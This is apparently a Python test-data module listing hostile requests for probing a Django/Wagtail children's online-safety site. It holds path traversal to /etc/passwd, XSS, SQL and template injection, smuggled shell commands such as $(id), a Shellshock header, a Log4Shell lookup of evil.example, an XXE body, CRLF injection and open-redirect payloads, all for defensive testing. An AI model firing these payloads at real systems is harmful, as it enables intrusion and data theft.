"""What is sent: addresses of every kind, and hostile words for each part of a request. Plain data, in a fixed order."""

MARK = "zqhostile"
EVIL = "evil.example"

# One of each kind of public page. CODE stands for the code of something published.
PAGES = (
    "/", "/8-10/", "/8-10/blocking/", "/parents/blocking/", "/topics/", "/topics/blocking/", "/help/",
    "/help/scotland/",
    "/help/childline/", "/help-now/", "/help-now/me/", "/help-now/note/", "/apps/", "/apps/snapchat/",
    "/apps/snapchat/block/", "/apps/compare/", "/practice/", "/practice/family-plan/", "/practice/spot-the-fake/",
    "/lessons/", "/lessons/blocking-8-10/", "/search/", "/find/", "/find/8-10/blocking/", "/about/", "/leave/",
    "/feeds/",
    "/bulletin/", "/calendar/", "/api/", "/for-schools/", "/for-schools/CODE/", "/for-schools/offline/",
    "/did-this-help/CODE/no/", "/embed/help/childline/", "/embed/help-now/", "/go/slipped/", "/nothing/",
)  # fmt: skip
# The same for machines.
MACHINES = (
    "/api/v1/", "/api/v1/guides", "/api/v1/helplines", "/api/v1/platforms", "/api/v1/lessons", "/api/v1/topics",
    "/api/v1/freshness", "/api/v1/hsds/services", "/api/v1/openapi.json", "/feeds/changes.xml", "/feeds/changes.json",
    "/feeds/guides.xml", "/feeds/apps.xml", "/feeds/apps.json", "/feeds/calendar.ics", "/sitemap.xml", "/robots.txt",
    "/.well-known/security.txt", "/livez", "/readyz", "/favicon.ico", "/go/CODE/", "/go/CODE/qr.svg",
    "/for-schools/CODE/nothing.pdf", "/for-schools/offline/nothing.zip", "/media/nothing.png", "/static/nothing.css",
    "/oembed",
)  # fmt: skip
# Below /admin/, asked by somebody who has not signed in: what the desk is made of, and what Django's or Wagtail's own
# parts would be called.
DESK = (
    "/admin/", "/admin/sign-in/", "/admin/sign-in/second-step/", "/admin/sign-in/passkey/", "/admin/sign-in/password/",
    "/admin/sign-out/", "/admin/login/", "/admin/logout/", "/admin/two-step/", "/admin/two-step/app/",
    "/admin/two-step/codes/file/", "/admin/pages/", "/admin/pages/1/", "/admin/pages/1/edit/", "/admin/pages/999999/",
    "/admin/pages/99999999999999999999999/edit/", "/admin/pages/usage/guides/guidepage/", "/admin/images/",
    "/admin/images/add/", "/admin/images/chooser/", "/admin/snippets/", "/admin/snippets/helplines/helpline/",
    "/admin/users/", "/admin/users/new/", "/admin/groups/", "/admin/reports/", "/admin/reports/site-history/",
    "/admin/redirects/", "/admin/settings/", "/admin/settings/organisation/sitesettings/", "/admin/collections/",
    "/admin/workflows/list/", "/admin/search/?q=zqhostile", "/admin/account/", "/admin/jsi18n/", "/admin/sprite/",
    "/admin/api/main/pages/", "/admin/documents/", "/admin/password_reset/", "/admin/bulk/wagtailcore/page/delete/",
    "/admin/tag-autocomplete/", "/admin/userbar/1/", "/admin/styleguide/", "/admin/nothing/", "/django-admin/",
    "/django-admin/login/", "/_util/login/", "/_util/authenticate_with_password/1/2/", "/accounts/login/", "/cms/",
    "/documents/1/x.pdf", "/__debug__/", "/console", "/metrics", "/server-status",
)  # fmt: skip
BUTTONS = (
    "/search/", "/search/8-10/x/", "/did-this-help/8-10/blocking/", "/did-this-help/CODE/no/", "/apps/find/",
    "/apps/snapchat/block/ios/moved/", "/cy/search/",
)  # fmt: skip

METHODS = (
    "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "TRACK", "DEBUG", "PROPFIND", "PROPPATCH", "MKCOL", "COPY",
    "MOVE", "LOCK", "UNLOCK", "SEARCH", "REPORT", "PURGE", "BAN", "LINK", "UNLINK", "VIEW", "get", "Post", "GETS", "G",
    "OPTIONS", "HEAD", "GET-", "M-SEARCH", "NOTIFY", "SUBSCRIBE", "X" * 300, "__import__", "POST'", "$(id)",
)  # fmt: skip

# Headers that decide nothing here: with and without them, a page is the same to the byte.
UNKEYED = (
    *(("X-Forwarded-Host", EVIL), ("X-Forwarded-Host", f"{EVIL}, {EVIL}"), ("X-Host", EVIL)),
    ("X-Forwarded-Server", EVIL),
    *(("X-HTTP-Host-Override", EVIL), ("Forwarded", f"for={MARK};host={EVIL};proto=https")),
    ("X-Original-URL", "/admin/"),
    *(("X-Rewrite-URL", "/admin/"), ("X-Original-Host", EVIL), ("X-Forwarded-Path", f"/{MARK}")),
    *(("X-Forwarded-Prefix", f"/{MARK}"), ("X-Script-Name", f"/{MARK}"), ("Script-Name", f"/{MARK}")),
    ("Path-Info", f"/{MARK}"),
    *(("X-Forwarded-Proto", "https"), ("X-Forwarded-Proto", MARK), ("X-Forwarded-Scheme", "nothttps")),
    ("X-Scheme", "https"),
    *(("X-Forwarded-Ssl", "on"), ("Front-End-Https", "on"), ("X-Forwarded-Port", "1"), ("X-Forwarded-Port", MARK)),
    *(("X-Forwarded-For", MARK), ("X-Forwarded-For", "1.2.3.4, " * 400), ("X-Real-IP", "127.0.0.1")),
    ("True-Client-IP", MARK),
    *(("Client-IP", "::1"), ("CF-Connecting-IP", "' or 1=1"), ("Via", f"1.1 {MARK}")),
    ("X-Wap-Profile", f"http://{EVIL}/"),
    *(("X-HTTP-Method-Override", "DELETE"), ("X-HTTP-Method", "PUT"), ("X-Method-Override", "POST")),
    *(("Accept-Language", "cy"), ("Accept-Language", f"{MARK};q=9, *;q=x"), ("Accept-Language", "../../etc" * 99)),
    *(("Accept", "application/json"), ("Accept", "*/*;q=zqhostile")),
    *(("Accept", "a/b," * 900), ("Accept-Charset", "utf-7")),
    *(("Accept-Datetime", "yesterday"), ("Accept-CH", "DPR"), ("Sec-CH-UA", f'"{MARK}"'), ("Sec-CH-UA-Mobile", "?1")),
    *(("User-Agent", f"<script>{MARK}</script>"), ("User-Agent", "${jndi:ldap://evil.example/}"), ("User-Agent", "")),
    *(("User-Agent", "() { :;}; /bin/id"), ("Referer", f"https://{EVIL}/?{MARK}"), ("Referer", "javascript:alert(1)")),
    *(("Origin", f"https://{EVIL}"), ("Origin", "null"), ("Cookie", f"sessionid={MARK}; csrftoken={MARK}")),
    *(("Cookie", f"a={MARK};" * 1500), ("Cookie", "=;;=\x80\xff;,"), ("Cookie", "django_language=cy; lang=cy")),
    *(("Cookie", "sessionid=" + "9" * 12000), ("Authorization", f"Basic {MARK}")),
    ("Authorization", "Bearer " + "A" * 9000),
    *(("Proxy", f"http://{EVIL}"), ("Proxy-Authorization", MARK), ("Range", "bytes=0-1")),
    ("Range", "bytes=9-1,-,x" * 99),
    *(("If-Range", MARK), ("If-Unmodified-Since", "x"), ("If-Modified-Since", "Thu, 99 Foo 9999 99:99:99 GMT")),
    *(("If-Match", '"x"'), ("If-None-Match", "\x80\xff"), ("X-Requested-With", "XMLHttpRequest")),
    ("Purpose", "prefetch"),
    *(("Sec-Purpose", "prefetch"), ("Sec-Fetch-Site", "cross-site"), ("Sec-Fetch-Dest", "iframe"), ("Save-Data", "on")),
    *(("DNT", "1"), ("Sec-GPC", "1"), ("Content-Type", "text/plain; charset=\xff")),
    ("Content-Type", "multipart/form-data"),
    *(("Content-Encoding", "gzip"), ("Content-Length", "0"), ("Max-Forwards", "0"), ("TE", "trailers, deflate;q=0.5")),
    *(("Trailer", MARK), ("Pragma", "no-cache"), ("Cache-Control", "no-cache, max-age=0")),
    ("Cache-Control", "only-if-cached"),
    *(("Surrogate-Capability", f'{MARK}="ESI/1.0"'), ("X-Esi", "1"), ("Fastly-Debug", "1"), ("X-Debug", "1")),
    ("Debug", "1"),
    *(("X-Cache-Key", MARK), ("X-Amz-Cf-Id", MARK), ("X-Sendfile", "/etc/passwd"), ("X-Accel-Redirect", "/etc/passwd")),
    *(("X-Custom-IP-Authorization", "127.0.0.1"), ("X-CSRFToken", MARK), ("Traceparent", MARK)),
    ("Baggage", MARK * 300),
    *(("Upgrade-Insecure-Requests", "1"), ("Early-Data", "1"), ("Priority", "u=9,i=x"), ("X_Forwarded_Host", EVIL)),
    *(("Lasting", "1"), ("Moment", "2030-01-01"), ("X-Valid-Until", "x"), ("Date", "x"), ("Last-Event-ID", MARK)),
)  # fmt: skip

HOSTS = (
    EVIL, f"{EVIL}:80", f"127.0.0.1.{EVIL}", f"127.0.0.1@{EVIL}", f"127.0.0.1:80@{EVIL}", f"127.0.0.1#{EVIL}",
    f"127.0.0.1/{EVIL}", f"127.0.0.1?{EVIL}", f"127.0.0.1,{EVIL}", f"127.0.0.1 {EVIL}", "127.0.0.1:evil",
    "127.0.0.1:99999999999", "127.0.0.1:-1", "127.0.0.1:", "", " ", ".", "..", "localhost.", "[", "[]", "[::1",
    "[::1]x",
    "::1", "[::ffff:127.0.0.1]", "0", "0.0.0.0", "2130706433", "0x7f.1", "127.1", "LOCALHOST", "xn--", "\xff\xfe",
    "a" * 300,
    "a." * 200, "127.0.0.1%00", "127.0.0.1\t", "<script>", "'", "169.254.169.254", "testserver.evil.example", "*",
)  # fmt: skip

PATHS = (
    "%00", "a%00b", "%0a", "%0d%0aSet-Cookie:x=zqhostile", "%0d%0a%0d%0a<script>", "%09", "%1b%5b31m", "%7f", "%c0%af",
    "%c0%ae%c0%ae/", "%ff%fe", "%ed%a0%80", "%f4%90%80%80", "%E2%80%AE", "%EF%BB%BF", "%u0041", "%", "%%", "%zz",
    "%2", "%25",
    "%2500", "%252e%252e%252f", "%25252e", "..", "../", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd", "..%5c..%5cwindows%5cwin.ini", "..;/", ".;/admin/", "....//....//etc/passwd", "./",
    "/./././",
    "~root/", ".env", ".git/config", ".htaccess", "wp-login.php", "phpinfo.php", "index.php?x=1", "web.config",
    "manage.py",
    "config/settings/base.py", "db.sqlite3", "signpost.sqlite3", "secret_key", "var/secret_key", "backup.zip",
    "a.bak", "a~",
    "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E", "\"onmouseover=alert(1)", "'", "'--",
    "1' or '1'='1",
    "1;drop table", "{{7*7}}", "%7B%7B7*7%7D%7D", "${7*7}", "{%25 debug %25}", "#{7*7}", "$(id)", "`id`", "|id",
    ";id", "&id",
    "*", "(", "[", "]",
    "\\", "^", "{", "}", "@", ":", ":80", "a:b@evil.example", "javascript:alert(1)", "data:text/html,x",
    "\xff\xfe", "\xc3\xa9", "٣", "१", "🙂", "%F0%9F%99%82", "e" * 1500, "a/" * 600, "a" * 1990, "%41" * 600, "a" * 9000,
    "null", "undefined", "NaN", "true", "-1", "0", "99999999999999999999999999", "1e309", "0x10", "CON", "aux.css",
    "con.html",
    "index.html", "x.json", "x.xml", "x.php", ".css", "a.css%00.html", "a;b=c", "a;.css", "a?b", "%3fa=b", "%23x",
    "%2fx", "x%2f",
    "admin%2f", "%61dmin/", "ADMIN/", "admin;/", "admin%20/", "admin%09/", "admin..;/", "./admin/", "en/", "xx/",
    "cy/", "EN/",
    "en-gb/", "cy/cy/", "cy/admin/", "cy//", "cy/%2e%2e/", "static/../manage.py", "media/../secret_key",
)  # fmt: skip
BEFORE_PATHS = ("/", "/8-10/", "/help/", "/apps/", "/media/", "/static/", "/go/", "/for-schools/", "/admin/",
    "/api/v1/",
                "/find/", "/help-now/", "/embed/guide/", "/search/", "/cy/", "/topics/", "/lessons/")  # fmt: skip

QUERIES = (
    "page=0", "page=-1", "page=99999999999999999999999", "page=1e9", "page=x", "page=%00", "page=%D9%A3",
    "page=1&page=2",
    "page[]=1", "page=" + "9" * 1800, "for=nobody", "for=%00", "for=zqhostile", "for=" + "x" * 1500, "for[]=1",
    "kind=%00",
    "kind=zqhostile", "age=%ff", "like=" + "a." * 500, "like=%00", "like=zqhostile", "apps=%00", "apps=" + "a," * 700,
    "apps=snapchat,snapchat", "apps=zqhostile", "one=8-10:roblox&two=zqhostile", "one=%00", "q=%00", "q=zqhostile",
    "q=%ff%fe", "q=" + "a" * 1900, "q=%22%22%22", "q=*", "q=a*+OR+NEAR(", "q=-", "q=(((", "format=xml",
    "url=//evil.example",
    "maxwidth=x", "maxwidth=-1", "a=b&" * 400, "&&&&", "=", "?", "%", "%zz=%zz", "\xff=\xfe", "a=%ED%A0%80",
    "__proto__[x]=1",
    "constructor.prototype=1", "_method=DELETE", "callback=zqhostile", "next=//evil.example",
    "redirect=https://evil.example",
    "utm_source=zqhostile", "fbclid=zqhostile", "preview=true", "mode=edit", "debug=1", "lang=cy", "language=cy",
    "cb=1",
    "x=%0d%0aSet-Cookie:a=b", "x=<script>zqhostile</script>", "x={{7*7}}", "id=1'+or+'1'='1", "_escaped_fragment_=x",
    "wagtail=1", "lasting=1", "moment=2030-01-01", "host=evil.example", ";a=b", "a;b", "a=1;b=2", "%00=%00", "a" * 1900,
)  # fmt: skip
# What no page reads: with and without it, a page is the same to the byte.
UNREAD = (
    "utm_source=zqhostile", "fbclid=zqhostile", "callback=zqhostile", "next=//evil.example", "lang=cy", "debug=1",
    "cb=1",
    "preview=true", "__proto__[x]=1", "x=<script>zqhostile</script>", "host=evil.example", "_method=DELETE", "%00=%00",
    "a=b&" * 300, "\xff=\xfe", "x=%0d%0aSet-Cookie:a=b",
)  # fmt: skip

# Below a redirecting address, and as the whole of one.
LEADING_AWAY = (
    "//evil.example", "//evil.example/", "//evil.example/%2f..", "///evil.example", "////evil.example",
    "/\\evil.example",
    "/\\/evil.example", "\\\\evil.example", "/%5cevil.example", "/%5c%5cevil.example", "/%2fevil.example",
    "/%2f%2fevil.example", "//%5cevil.example", "/.evil.example", "//evil.example@127.0.0.1",
    "//127.0.0.1@evil.example",
    "http://evil.example/8-10", "https://evil.example", "http:evil.example", "http:///evil.example",
    "//evil%E3%80%82example",
    "/%09/evil.example", "/%0a/evil.example", "/%0d%0aLocation:%20//evil.example", "//evil.example?x=1",
    "//evil.example#x",
    "//evil.example//", "//[::1]/", "//evil.example:80/8-10", "//evil.example;/8-10",
)  # fmt: skip
REDIRECTING = ("", "/8-10", "/8-10/blocking", "/topics/blocking", "/go", "/cy", "/for-schools", "/for-schools/8-10",
               "/apps/snapchat", "/did-this-help", "/find/8-10", "/help-now", "/lessons", "/embed/help", "/api",
               "/admin",
               "/admin/sign-in", "/media", "/static")  # fmt: skip
DESTINATIONS = ("//evil.example", "https://evil.example/", "/\\evil.example", "/%09/evil.example",
    "javascript:alert(1)",
                "http:evil.example", "https:/evil.example", "////evil.example", "https://127.0.0.1@evil.example",
                "")  # fmt: skip
ASKING_WHERE = ("/admin/sign-in/?next=", "/admin/login/?next=", "/admin/sign-out/?next=", "/admin/?next=",
    "/search/?next=",
                "/apps/find/?next=", "/leave/?to=", "/go/CODE/?next=", "/did-this-help/8-10/blocking/?next=",
                "/oembed?url=", "/8-10?next=")  # fmt: skip

FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=x"
BODIES = (
    ("", b""), (FORM, b""), (FORM, b"q=%00"), (FORM, b"q=" + b"a" * 1900), (FORM, b"q=zqhostile&" * 200),
    (FORM, b"\x00\xff\xfe"),
    (FORM, b"q=%ff%fe%fd"), (FORM, b"a=1&" * 3000), (FORM, b"q=" + b"%41" * 15000), (FORM, b"q=" + b"x" * 70000),
    (FORM, b"answer=zqhostile&reason=zqhostile"), (FORM, b"answer[]=no"), (FORM, b"answer=" + b"n" * 1000),
    (FORM, b"&&&==&"),
    (FORM, b"name=%00"), (FORM, b"name=" + b"a" * 1900), (FORM, b"name=zqhostile"), (FORM + "; charset=utf-16", b"q=a"),
    (FORM + "; charset=zqhostile", b"q=a"), (FORM + ";;;=", b"q=a"), ("application/json", b"{}"),
    ("application/json", b"{" * 900),
    ("application/json", b'{"q": "zqhostile"}'), ("text/plain", b"q=zqhostile"), ("multipart/form-data", b"q=a"),
    ("multipart/form-data; boundary=", b"--"), ("multipart/form-data; boundary=x", b"--x\r\n"),
    (MULTIPART, b"--x\r\nContent-Disposition: form-data; name=\"q\"; filename=\"../../x\"\r\n\r\nzq\r\n--x--"),
    ("application/xml", b"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>"),
    ("application/octet-stream", bytes(range(256))), ("image/svg+xml", b"<svg/>"), ("\xff", b"q=a"),
    ("a" * 900, b"q=a"),
)  # fmt: skip

API_LISTS = ("guides", "lessons", "topics", "platforms", "helplines", "freshness", "hsds/services")
API_QUERIES = (
    "page=0", "page=-1", "page=x", "page=1.5", "page=99999999999999999999", "page=" + "9" * 1500, "page=%00", "page=",
    "per_page=0", "per_page=-5", "per_page=100000000", "per_page=%20", "page=1&page=x", "language=xx", "language=%00",
    "language=zqhostile", "audience=zqhostile", "audience=%00", "topic=zqhostile", "topic=%00", "topic=" + "a" * 1500,
    "region=GB-ZZZ", "region=%00", "region=zqhostile", "age=-1", "age=1e3", "age=zqhostile", "for_whom=%ff",
    "deals_with=%00",
    "key_stage=zqhostile", "due=%00", "kind=zqhostile", "fields=*", "order=-id", "search=%00", "zqhostile=1",
    "page[]=1",
)  # fmt: skip
API_PATHS = ("guides/zqhostile/zqhostile", "guides/8-10/%00", "guides/%00/blocking", "guides/8-10/", "lessons/%ff",
             "topics/" + "a" * 1000, "platforms/zqhostile", "helplines/..%2f..", "hsds/services/zqhostile",
             "hsds/services/00000000-0000-0000-0000-000000000000", "docs", "schema", "openapi.yaml", "../../admin/",
             "nothing",
             "guides.json", "guides/8-10/blocking/x", "v2/", "//", "pages/")  # fmt: skip
